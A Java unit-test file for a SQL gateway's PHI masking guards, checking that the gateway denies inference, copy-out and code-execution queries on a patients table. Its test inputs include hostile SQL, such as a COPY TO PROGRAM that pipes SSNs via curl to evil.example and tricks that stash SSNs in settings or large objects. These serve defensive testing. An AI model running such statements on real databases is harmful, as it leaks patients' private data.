package dev.sluice.core.policy.guards;

import dev.sluice.core.command.SqlCommand;
import dev.sluice.core.connection.AccessList;
import dev.sluice.core.connection.ConnectionSpec;
import dev.sluice.core.connection.Credentials;
import dev.sluice.core.connection.Target;
import dev.sluice.core.connection.TlsMode;
import dev.sluice.core.identity.Identity;
import dev.sluice.core.masking.ColumnRule;
import dev.sluice.core.masking.GuardMode;
import dev.sluice.core.masking.Guards;
import dev.sluice.core.masking.MaskingKey;
import dev.sluice.core.masking.MaskingPolicy;
import dev.sluice.core.masking.PhiStrictPreset;
import dev.sluice.core.masking.Redact;
import dev.sluice.core.policy.Decision;
import dev.sluice.core.policy.Policies;
import dev.sluice.core.policy.Policy;
import dev.sluice.core.session.SessionContext;
import dev.sluice.core.sql.ParsingSqlAnalyzer;
import dev.sluice.core.sql.SqlDialect;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

/** The inference, copy-out and code-execution guards, on real SQL through the gateway's analyser. */
class GuardedPolicyTest {

    private static final ParsingSqlAnalyzer ANALYZER =
            new ParsingSqlAnalyzer(SqlDialect.POSTGRESQL, 1_000, Duration.ofSeconds(60));
    private static final MaskingKey KEY = MaskingKey.fromText("a-masking-key-of-at-least-32-bytes-for-guard-tests");

    /** phi-strict with phi-readers exempt: every guard denies. */
    private static final MaskingPolicy STRICT = PhiStrictPreset.policy(KEY).toBuilder()
            .exemptGroups(List.of("phi-readers")).build();

    private final Policy strict = GuardedPolicy.of("strict", STRICT, Policies.allowAll());

    private static SqlCommand sql(String text) {
        return new SqlCommand(text, ANALYZER.analyze(text), List.of());
    }

    private static SessionContext session(String... groups) {
        Identity who = new Identity("alice", "Alice", Set.of(groups), Identity.Proof.OIDC_TOKEN,
                "https://idp.example.org");
        ConnectionSpec clinic = new ConnectionSpec("clinic", "postgresql", "pg",
                new Target("db.internal", 5432, "clinic", TlsMode.DISABLE, Optional.empty()),
                new Credentials("app", Optional.empty()), new AccessList(Set.of(), Set.of("dev")), "strict");
        return new SessionContext("s-1", "postgresql", who, clinic, "10.0.0.7:50000", "psql",
                Instant.parse("2025-03-03T14:30:00Z"));
    }

    private Decision decide(String text) {
        return strict.decide(session("dev"), sql(text));
    }

    /** "deny:rule", "review:rule" or "allow". */
    private static String outcome(Decision decision) {
        return switch (decision) {
            case Decision.Deny deny -> "deny:" + deny.rule();
            case Decision.Review review -> "review:" + review.rule();
            case Decision.Allow allow -> "allow";
        };
    }

    // ---- the examples of the task ------------------------------------------------------------------------

    @Test
    void filteringOnAProtectedColumnIsDeniedNamingTheColumnAndThePolicy() {
        assertThat(decide("select * from patients where ssn = '1'")).isEqualTo(new Decision.Deny("phi-inference",
                "filtering, joining or sorting on the protected column patients.ssn is not allowed under policy "
                        + "strict (it would let you infer masked values)"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "declare c cursor for select id, ssn from patients",
            "declare c no scroll cursor with hold for select id from patients where id = 5",
            "prepare q as select ssn, first_name from patients",
            "prepare q (int) as select ssn from patients where id = $1",
            "copy (select id, ssn from patients) to stdout with (format csv)",
    })
    void aQueryInsideDeclarePrepareOrCopyIsJudgedByWhatItFiltersOn(String text) {
        assertThat(outcome(decide(text))).isEqualTo("allow");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "declare c cursor for select id from patients where ssn like '1%'",
            "prepare q as select id from patients order by dob",
            "copy (select id from patients where zip = '94117') to stdout",
    })
    void aQueryInsideDeclarePrepareOrCopyThatFiltersOnAProtectedColumnIsDenied(String text) {
        assertThat(outcome(decide(text))).isEqualTo("deny:phi-inference");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "select name from patients order by dob",
            "select count(*) from patients group by zip",
            "select distinct last_name from patients",
            "select zip, count(*) from patients group by 1 having max(dob) > '2000-01-01'",
            "select v.id from visits v join patients p on p.ssn = v.ssn",
            "select id from visits where patient_id in (select id from patients where phone like '555%')",
            "select (select count(*) from patients where ssn like '1%')",
            "update patients set flagged = true where ssn like '1%'",
            "delete from patients where email = 'x@example.org'",
    })
    void protectedColumnsThatPickMatchGroupOrOrderRowsAreDenied(String text) {
        assertThat(outcome(decide(text))).isEqualTo("deny:phi-inference");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "select name from patients where id = 5",
            "select ssn, dob from patients",
            "select * from patients order by id limit 10",
            "select count(*) from patients where created_at > now() - interval '1 day'",
            "select 1",
            "begin; set search_path = clinic; commit",
            "update patients set ssn = trim(ssn) where id = 5",
            "update patients set visit_count = visit_count + 1, updated_at = now() where id = 5",
    })
    void unprotectedPredicatesAndPlainReadsAreAllowed(String text) {
        assertThat(outcome(decide(text))).isEqualTo("allow");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "create table x as select * from patients",
            "create temp table x as select ssn from patients",
            "select ssn into backup from patients",
            "select ssn into temp t from patients",
            "insert into t select ssn from patients",
            "insert into t values ((select ssn from patients limit 1))",
            "update t set x = p.ssn from patients p where p.id = t.id",
            "create view v as select * from patients",
            "create materialized view v as select ssn from patients",
            "copy patients to '/tmp/patients.csv'",
            "copy (select ssn from patients) to program 'curl -d @- https://evil.example'",
            "alter table patients rename column ssn to not_an_ssn",
            "alter table patients rename to people_backup",
            "alter table patients set schema scratch",
            "update patients set notes = ssn where id = 5",
            "update patients p set notes = upper(p.last_name) where id = 5",
            "update patients set notes = patients::text where id = 5",
            "update patients set notes = (select ssn from patients p2 where p2.id = 6) where id = 5",
    })
    void copyingProtectedDataToANewPlaceIsDenied(String text) {
        assertThat(outcome(decide(text))).isEqualTo("deny:phi-copy-out");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "select set_config('attack.v', ssn, false) from patients where id = 1",
            "select pg_catalog.set_config('attack.v', (insurance->>'member_id') || last_name, false) from patients",
            "select lo_from_bytea(424242, convert_to(ssn, 'UTF8')) from patients where id = 1",
            "select pg_catalog.lo_from_bytea(0, convert_to(ssn, 'UTF8')) from patients",
            "select lo_put(424242, 0, convert_to(ssn, 'UTF8')) from patients where id = 1",
            "select lowrite(0, convert_to(last_name, 'UTF8')) from patients",
            "select id from patients where id = (select lo_import('/tmp/x')) ",
    })
    void storingProtectedDataInASettingOrALargeObjectIsCopyOut(String text) {
        assertThat(outcome(decide(text))).isEqualTo("deny:phi-copy-out");
    }

    @Test
    void theStoringCopyOutMessageNamesTheFunction() {
        assertThat(decide("select set_config('attack.v', ssn, false) from patients where id = 1"))
                .isInstanceOfSatisfying(Decision.Deny.class, deny -> assertThat(deny.reason()).startsWith(
                        "copying data from the protected table patients into a new place (set_config())"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "select set_config('search_path', 'clinic', false)",
            "select current_setting('attack.v')",
            "select lo_from_bytea(0, convert_to('hello', 'UTF8'))",
            "select convert_from(lo_get(424242), 'UTF8')",
    })
    void storingFunctionsWithoutAProtectedTableAreAllowed(String text) {
        assertThat(outcome(decide(text))).isEqualTo("allow");
    }

    @Test
    void storingFunctionsOnTablesWithoutProtectedColumnsAreAllowed() {
        MaskingPolicy narrow = MaskingPolicy.builder()
                .rule(ColumnRule.whole("*.patients.ssn", Redact.DEFAULT))
                .guards(Guards.DENY).build();
        Policy policy = GuardedPolicy.of("narrow", narrow, Policies.allowAll());
        assertThat(outcome(policy.decide(session("dev"),
                sql("select set_config('app.ward', label, false) from wards where id = 1")))).isEqualTo("allow");
        assertThat(outcome(policy.decide(session("dev"),
                sql("select set_config('app.v', ssn, false) from patients where id = 1"))))
                .isEqualTo("deny:phi-copy-out");
    }

    @Test
    void theCopyOutMessageNamesTheTableAndTheForm() {
        assertThat(decide("insert into t select ssn from patients")).isEqualTo(new Decision.Deny("phi-copy-out",
                "copying data from the protected table patients into a new place (INSERT … SELECT) is not allowed "
                        + "under policy strict (no masking rule would name the copy, so it could be read unmasked)"));
    }

    @Test
    void copyingAProtectedColumnIntoAnotherColumnOfTheSameRowIsCopyOut() {
        assertThat(decide("update patients set notes = ssn where id = 5")).isEqualTo(new Decision.Deny(
                "phi-copy-out", "copying the protected column patients.ssn into another column (UPDATE … SET) is not "
                + "allowed under policy strict (no masking rule would name the copy, so it could be read unmasked)"));
        assertThat(decide("update patients set notes = (select ssn from patients p2 where p2.id = 6) where id = 5"))
                .isInstanceOfSatisfying(Decision.Deny.class, deny -> assertThat(deny.reason())
                        .startsWith("setting a column of the protected table patients from a subquery"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "do $$ begin raise notice '%', (select ssn from patients limit 1); end $$",
            "create function f() returns text as $$ select ssn from patients limit 1 $$ language sql",
            "create or replace procedure p() language sql as $$ insert into t select ssn from patients $$",
    })
    void codeTheGatewayCannotSeeIntoIsDenied(String text) {
        assertThat(outcome(decide(text))).isEqualTo("deny:phi-code-execution");
    }

    @Test
    void copyToTheClientIsNotCopyOut() {
        // Its rows are masked on the way out, like a SELECT's.
        assertThat(outcome(decide("copy patients to stdout"))).isEqualTo("allow");
    }

    // ---- exemption, modes, combination with the rules ------------------------------------------------------

    @Test
    void anExemptGroupHasNoInferenceGuardButKeepsTheOthers() {
        SessionContext reader = session("dev", "phi-readers");
        assertThat(outcome(strict.decide(reader, sql("select * from patients where ssn = '1'")))).isEqualTo("allow");
        assertThat(outcome(strict.decide(reader, sql("create table x as select * from patients"))))
                .isEqualTo("deny:phi-copy-out");
        assertThat(outcome(strict.decide(reader, sql("do $$ begin perform 1; end $$"))))
                .isEqualTo("deny:phi-code-execution");
    }

    @Test
    void reviewModeHoldsTheStatementForAnyReviewer() {
        MaskingPolicy reviewing = STRICT.toBuilder()
                .guards(new Guards(GuardMode.REVIEW, GuardMode.REVIEW, GuardMode.REVIEW)).build();
        Policy policy = GuardedPolicy.of("strict", reviewing, Policies.allowAll());

        assertThat(policy.decide(session("dev"), sql("select * from patients where ssn = '1'")))
                .isEqualTo(new Decision.Review("phi-inference", "filtering, joining or sorting on the protected "
                        + "column patients.ssn needs approval under policy strict (it would let you infer masked "
                        + "values)", List.of(), 1, Decision.Review.DEFAULT_TIMEOUT, List.of()));
        assertThat(outcome(policy.decide(session("dev"), sql("create table x as select * from patients"))))
                .isEqualTo("review:phi-copy-out");
        assertThat(outcome(policy.decide(session("dev"), sql("select name from patients where id = 5"))))
                .isEqualTo("allow");
    }

    @Test
    void aDenyingGuardDecidesBeforeTheRulesAndAReviewingOneYieldsToARuleThatDenies() {
        Policy allowEverything = Policies.fixed(Decision.allow());
        assertThat(outcome(GuardedPolicy.of("strict", STRICT, allowEverything)
                .decide(session("dev"), sql("insert into t select ssn from patients")))).isEqualTo("deny:phi-copy-out");

        MaskingPolicy reviewing = STRICT.toBuilder()
                .guards(new Guards(GuardMode.REVIEW, GuardMode.REVIEW, GuardMode.REVIEW)).build();
        Policy denyAll = Policies.denyAll("nothing runs here");
        assertThat(GuardedPolicy.of("strict", reviewing, denyAll)
                .decide(session("dev"), sql("insert into t select ssn from patients")))
                .isEqualTo(new Decision.Deny("deny-all", "nothing runs here"));
        Policy reviewAll = Policies.fixed(new Decision.Review("rule-review", List.of("dba")));
        assertThat(outcome(GuardedPolicy.of("strict", reviewing, reviewAll)
                .decide(session("dev"), sql("insert into t select ssn from patients"))))
                .isEqualTo("review:phi-copy-out");
        assertThat(outcome(GuardedPolicy.of("strict", reviewing, reviewAll)
                .decide(session("dev"), sql("select 1")))).isEqualTo("review:rule-review");
    }

    @Test
    void everyStatementOfACommandIsGuardedAndDenyBeatsReview() {
        assertThat(outcome(decide("select 1; create table x as select * from patients; select 2")))
                .isEqualTo("deny:phi-copy-out");
        MaskingPolicy mixed = STRICT.toBuilder()
                .guards(new Guards(GuardMode.DENY, GuardMode.REVIEW, GuardMode.REVIEW)).build();
        Policy policy = GuardedPolicy.of("strict", mixed, Policies.allowAll());
        assertThat(outcome(policy.decide(session("dev"),
                sql("create table x as select 1 from patients; select * from patients where ssn = '1'"))))
                .isEqualTo("deny:phi-inference");
    }

    @Test
    void aStatementTheGatewayCannotAnalyseOnAProtectedTableFailsClosed() {
        assertThat(outcome(decide("select ssn from patients where ssn = ( garbage"))).isEqualTo("deny:phi-inference");
        assertThat(outcome(decide("declare c cursor for select * from patients where ssn = '1'")))
                .isEqualTo("deny:phi-inference");
    }

    // ---- a narrower masking policy ------------------------------------------------------------------------

    @Test
    void onlyTablesThatMayHoldAProtectedColumnAreGuarded() {
        MaskingPolicy narrow = MaskingPolicy.builder()
                .rule(ColumnRule.whole("*.patients.ssn", Redact.DEFAULT))
                .guards(Guards.DENY).build();
        Policy policy = GuardedPolicy.of("narrow", narrow, Policies.allowAll());
        SessionContext dev = session("dev");

        assertThat(outcome(policy.decide(dev, sql("create table x as select * from visits")))).isEqualTo("allow");
        assertThat(outcome(policy.decide(dev, sql("select * from visits where ssn = '1'")))).isEqualTo("allow");
        assertThat(outcome(policy.decide(dev, sql("select * from patients where name = 'x'")))).isEqualTo("allow");
        assertThat(outcome(policy.decide(dev, sql("insert into t select v.* from visits v join patients p "
                + "on p.id = v.pid")))).isEqualTo("deny:phi-copy-out");
        assertThat(outcome(policy.decide(dev, sql("select * from patients where ssn = '1'"))))
                .isEqualTo("deny:phi-inference");
    }

    @Test
    void guardsThatAreOffLeaveTheRulesAlone() {
        Policy rules = Policies.allowAll();
        assertThat(GuardedPolicy.of("p", MaskingPolicy.NONE, rules)).isSameAs(rules);
        assertThat(GuardedPolicy.of("p", STRICT.toBuilder().guards(Guards.OFF).build(), rules)).isSameAs(rules);
        assertThat(GuardedPolicy.of("p", STRICT, rules)).isNotSameAs(rules);
    }
}
